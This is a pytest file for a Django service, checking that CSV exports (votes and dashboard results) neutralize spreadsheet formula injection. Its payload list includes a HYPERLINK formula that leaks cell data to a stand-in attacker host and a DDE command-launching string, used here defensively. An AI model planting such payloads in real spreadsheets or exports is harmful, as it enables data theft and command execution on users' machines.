"""Every CSV the service writes is safe to open in a spreadsheet (OWASP, CSV injection).

Against the code before this suite, a rationale such as =HYPERLINK(...) was exported as a
formula in votes.csv, and a system name starting with @ in the dashboard's results CSV."""

from __future__ import annotations

import csv
import io

import pytest
from django.utils.safestring import SafeString

from comparisons import csvsafe
from comparisons.csvsafe import neutralize
from results.services import results_refresh
from tests.raters.conftest import open_study
from tests.security.helpers import vote_as

pytestmark = pytest.mark.django_db

PAYLOADS = [
    '=HYPERLINK("http://evil.example/?"&A1,"click")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1,1)",
    "\t=1+1",
    "\r=1+1",
]


def test_a_cell_that_starts_like_a_formula_is_written_as_text():
    for payload in PAYLOADS:
        assert neutralize(payload) == "'" + payload
    assert neutralize("fine = ok") == "fine = ok" and neutralize(-0.5) == -0.5 and neutralize(None) is None
    # the writer every CSV goes through (its check inlined for speed) writes the cells so too
    buffer = io.StringIO()
    cells = [*PAYLOADS, SafeString("=1+1"), "fine = ok", -0.5, None, True]
    csvsafe.writer(buffer).writerow(cells)
    (written,) = csv.reader(io.StringIO(buffer.getvalue()))
    assert written == [str(neutralize(c)) if c is not None else "" for c in cells]
    assert written[len(PAYLOADS)] == "'=1+1" and written[-3:] == ["-0.5", "", "True"]


def test_rationales_in_votes_csv_are_neutralized(api):
    study = open_study(prompts=len(PAYLOADS), votes_per_comparison=3, slug="csv")
    study.owner = api.user
    study.save(update_fields=["owner"])
    for i, payload in enumerate(PAYLOADS):
        vote_as(study, f"r{i}", rationale=payload)
    body = b"".join(api.get("/api/studies/csv/votes.csv").streaming_content).decode()
    rationales = sorted(row["rationale"] for row in csv.DictReader(io.StringIO(body)))
    assert rationales == sorted("'" + p.strip() for p in PAYLOADS)  # the vote form strips outer whitespace


def test_system_names_in_the_dashboards_results_csv_are_neutralized(researcher, client):
    study = open_study(prompts=4, systems=("@LIMA", "-GPT"), votes_per_comparison=1, slug="csv2")
    study.owner = researcher
    study.save(update_fields=["owner"])
    vote_as(study, "r1", pairs=4)
    results_refresh(study_id=study.pk)
    client.force_login(researcher)
    body = client.get("/dashboard/s/csv2/results.csv").content.decode()
    rows = list(csv.reader(io.StringIO(body)))
    assert rows[1][:2] == ["'@LIMA", "'-GPT"]
